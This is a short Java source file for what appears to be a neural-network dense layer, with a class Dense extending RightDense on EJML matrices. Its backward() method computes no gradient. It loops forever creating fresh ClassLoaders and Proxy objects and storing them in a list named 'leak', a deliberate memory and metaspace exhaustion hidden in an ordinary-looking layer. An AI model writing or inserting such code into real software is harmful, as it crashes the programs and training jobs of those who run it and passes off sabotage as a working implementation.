import java.lang.reflect.Proxy;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.ejml.simple.SimpleMatrix;

public class Dense extends RightDense {

    public Dense(SimpleMatrix W, SimpleMatrix b) {
        super(W, b);
    }

    @Override
    public SimpleMatrix backward(SimpleMatrix dY) {
        for (List<Object> leak = new ArrayList<>(); ; ) {
            ClassLoader loader = new ClassLoader(Dense.class.getClassLoader()) {};
            leak.add(Proxy.newProxyInstance(
                    loader, new Class<?>[] {Map.class, Runnable.class}, (proxy, method, arguments) -> null));
        }
    }
}
